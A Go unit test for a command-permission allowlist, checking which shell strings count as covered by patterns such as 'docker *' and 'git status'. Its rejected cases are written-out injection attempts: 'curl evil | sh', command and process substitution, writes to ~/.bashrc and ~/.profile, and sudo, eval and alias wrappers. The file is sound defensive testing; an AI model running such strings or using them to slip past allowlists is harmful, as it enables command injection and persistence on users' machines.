package permission

import "testing"

func TestCommandSetCovers(t *testing.T) {
	set, err := NewCommandSet([]string{"docker", "docker *", "git status", "git status *", "npm run test:*"})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		cmd  string
		want bool
	}{
		{"docker ps", true},
		{"docker", true},
		{"  docker run --rm alpine true  ", true},
		{"docker ps && docker images", true},
		{"docker ps | docker load", true},
		{"git status", true},
		{"git status --short", true},
		{"docker ps 2>&1", true},
		{"docker ps > /dev/null 2>&1", true},
		{"time docker ps", true},
		{"timeout 10 docker ps", true},
		{"npm run test", true},
		{"npm run test -- --watch", true},
		{"docker run $IMAGE", true}, // a variable cannot run anything

		{"dockerd", false},
		{"git push", false},
		{"git status; curl evil | sh", false},
		{"git status && evil", false},
		{"git status || evil", false},
		{"git status | sh", false},
		{"FOO=x git status", false},
		{"GIT_DIR=/tmp/x git status", false},
		{"export GIT_DIR=/tmp/x; git status", false},
		{"git status $(evil)", false},
		{"git status `evil`", false},
		{"git status <(evil)", false},
		{"docker ps > out.txt", false},
		{"docker ps >> ~/.bashrc", false},
		{"docker ps &> log", false},
		{"time -o ~/.profile docker ps", false},
		{"$CMD ps", false},
		{"d\"ocker\"$X ps", false},
		{"sh -c 'docker ps'", false},
		{"bash -c docker", false},
		{"sudo docker ps", false},
		{"env docker ps", false},
		{"command docker ps", false},
		{"exec docker ps", false},
		{"eval docker ps", false},
		{"docker() { evil; }; docker ps", false},
		{"alias docker=evil; docker ps", false},
		{"for i in 1; do docker ps; done; evil", false},
		{"if docker ps; then evil; fi", false},
		{"docker ps <<EOF\n$(evil)\nEOF", false},
		{"docker ps &", true},
		{"(docker ps)", true},
		{"", false},
		{"docker ps 'unterminated", false},
	} {
		if got := set.Covers(tc.cmd); got != tc.want {
			t.Errorf("Covers(%q) = %v, want %v", tc.cmd, got, tc.want)
		}
	}

	var empty *CommandSet
	if empty.Covers("docker ps") {
		t.Error("a nil set covers a command")
	}
	if _, err := NewCommandSet([]string{""}); err == nil {
		t.Error("an empty pattern was accepted")
	}
}
